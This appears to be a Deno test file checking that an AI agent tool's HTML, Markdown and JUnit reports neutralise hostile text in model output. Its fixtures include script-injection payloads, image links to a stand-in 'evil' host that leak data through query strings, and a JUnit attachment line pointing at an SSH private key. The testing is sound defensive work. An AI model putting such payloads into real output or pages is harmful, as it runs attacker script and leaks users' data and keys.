/** A result, or an answer, that wants more of its reader than to be read. */
import assert from "node:assert/strict";
import type { Stamped } from "../../agent/events.ts";
import { html, SCRIPT_HASH } from "./html.ts";
import { junit } from "./junit.ts";
import { markdown, markdown_transcript } from "./markdown.ts";
import { type Page, PageBuilder } from "./page.ts";
import { fault_of_page } from "./page_shape.ts";

function page(over: object = {}, said = ""): Page {
  const result = {
    ...{ type: "result", schema: 1, session_id: "s", status: "success", stop_reason: "llm_done" },
    ...{ exit_code: 0, final_output: said, model: "m", provider: "p", steps: 1, tool_calls: 0 },
    ...{ duration_ms: 1, cost_usd: null, files_changed: [], verification: null, error: null },
    usage: { input_tokens: 1, output_tokens: 1, cached_tokens: 0, reasoning_tokens: 0 },
    evidence: { mutations: 0, commands: 0, verified: false, refused: 0 },
    ...{ warnings: [], t: 0, step: 0 },
    ...over,
  };
  const builder = new PageBuilder("run", "Do it.");
  const delta = { type: "text_delta", text: said, finished: true, t: 0, step: 1 };
  for (const event of [delta, result]) builder.hear(event as Stamped);
  return builder.page() as Page;
}

Deno.test("a result that is none is refused, before any of it is put into a page", () => {
  assert.equal(fault_of_page(page()), null);
  assert.equal(fault_of_page(page({ later: 1, usage: { ...page().result.usage, more: 1 } })), null);
  const evil = '"><script>alert(1)</script>';
  const wrong: object[] = [
    ...[{ status: evil }, { steps: evil }, { duration_ms: evil }, { cost_usd: evil }],
    ...[{ schema: 2 }, { final_output: {} }, { model: 1 }, { error: evil }, { files_changed: 1 }],
    { usage: { input_tokens: evil, output_tokens: 1 } },
    { files_changed: [{ path: "a", status: "modified", added: "| ![](http://x)", removed: 0 }] },
    { verification: { command: 1, exit_code: 0, attempts: 1 } },
  ];
  for (const one of wrong) assert.notEqual(fault_of_page(page(one)), null, JSON.stringify(one));
});

Deno.test("a page runs no script but its own", async () => {
  const text = html([page({}, "<script>alert(1)</script>\"'&")]);
  const [, script = ""] = /<script>([^]*)<\/script>/.exec(text) ?? [];
  const hash = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(script));
  assert.equal(SCRIPT_HASH, `sha256-${new Uint8Array(hash).toBase64()}`);
  assert.match(text, new RegExp(`script-src '${SCRIPT_HASH.replaceAll("+", "\\+")}'`));
  assert.equal(text.match(/<script/g)?.length, 1);
  assert.doesNotMatch(text, /script-src[^;"]*unsafe/);
});

Deno.test("Markdown of a model loads nothing from an address of its choice, and its code stays as it is", () => {
  const loading = [
    ...["![a](<http://evil/?k=1>)", "1. - ![r][]\n\n   - [r]: http://evil/?k=1"],
    ...["![a](http://evil/?k=1)", "![[a]](http://evil/?k=1)", "![a\nb](http://evil/?k=1)"],
    ...["![a][r]\n\n[r]: http://evil/?k=1", "> ![r]\n>\n> [r]:\n> http://evil/?k=1", "- [r\\]]: x"],
    ...[
      '<img src="http://evil/?k=1">',
      "<IMG\nsrc=x>",
      "<picture><source srcset=x>",
      "<svg/onload=x>",
    ],
  ];
  const all = [markdown, (pages: readonly Page[]) => markdown_transcript(pages[0] as Page)];
  for (const said of loading) {
    for (const make of all) {
      const text = make([page({}, said)]);
      assert.doesNotMatch(text, /!\[[^\n]*\]\(|!\[a\nb|<(?:img|picture|source|svg)/i, said);
      assert.doesNotMatch(text, /^[> -]*\[[^\]\u200b]*\]?\]:/m, said);
    }
  }
  const kept = [
    ...["let v = vec![0; 3];", "See [the page](http://x).", "`a < b`", "Vec<String>", "x[0]: 1"],
    ...["<div class=a>", "a[i][j] = vec", "Done! [1]"],
  ];
  for (const said of kept) {
    for (const make of all) assert.ok(make([page({}, said)]).includes(said), said);
  }
});

Deno.test("a name with backticks stays in its code", () => {
  const check = { kind: "verification", name: "a `` ![](http://x) ``` b", ok: true } as const;
  const text = markdown([{ ...page(), checks: [{ ...check, message: "", ms: 0 }] }]);
  assert.ok(text.includes("- ✅ ```` a `` ![](http://x) ``` b ````: "), text);
});

Deno.test("no line of a JUnit report has its reader fetch a file", () => {
  const line = "[[ATTACHMENT|/home/me/.ssh/id]]";
  for (const word of [line, `a\n${line}\nb`, line.toLowerCase()]) {
    const xml = junit([
      page({}, word),
      page({ status: "failed", error: { kind: "x", message: word } }),
    ]);
    assert.doesNotMatch(xml, /\[\[attachment/i);
    assert.match(xml, /\[\u200b\[ATTACHMENT\|\/home\/me\/\.ssh\/id\]\]/i);
  }
  assert.match(junit([page({}, "a[[0]], [[ATTACHMENTS]]")]), /a\[\[0\]\], \[\[ATTACHMENTS\]\]/);
});
